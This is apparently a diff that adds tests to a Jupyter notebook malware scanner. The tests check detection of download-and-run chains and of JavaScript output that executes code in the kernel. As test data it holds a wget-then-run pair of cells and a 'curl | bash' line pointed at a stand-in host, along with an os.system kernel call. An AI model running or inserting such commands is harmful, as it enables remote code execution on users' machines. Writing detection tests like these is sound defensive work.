@@ -66,3 +66,29 @@ test.each(['{"cells": [', '{"a": 1}', '[]'])('%s is no notebook and never clean'
   expect(scan.status).toBe('inconclusive')
   expect(scan.verdict).not.toBe('clean')
 })
+
+test('what one cell downloads and another one runs is one thing', () => {
+  const scan = scanNotebook(['!wget https://x.example.net/h.py', '%run h.py'])
+  expect(scan.names('code')).toContain('threat.download-and-run')
+})
+
+test('a script that a cell writes is read when another cell runs it', () => {
+  const scan = scanNotebook([
+    '%%writefile /tmp/s.sh\ncurl -s https://x.example.net/a | bash',
+    '!bash /tmp/s.sh',
+  ])
+  expect(scan.names('code')).toContain('threat.download-and-run')
+})
+
+test('an output that runs Python in the kernel is found, one that draws is not', () => {
+  const output = (code: string) => [
+    { output_type: 'display_data', metadata: {}, data: { 'application/javascript': [code] } },
+  ]
+  const runs = scanNotebook(
+    ['1'],
+    output('Jupyter.notebook.kernel.execute("import os; os.system(1)")'),
+  )
+  const draws = scanNotebook(['1'], output('Jupyter.notebook.kernel.execute(command)'))
+  expect(runs.names('content')).toContain('notebook.kernel-code')
+  expect(draws.names('content')).not.toContain('notebook.kernel-code')
+})
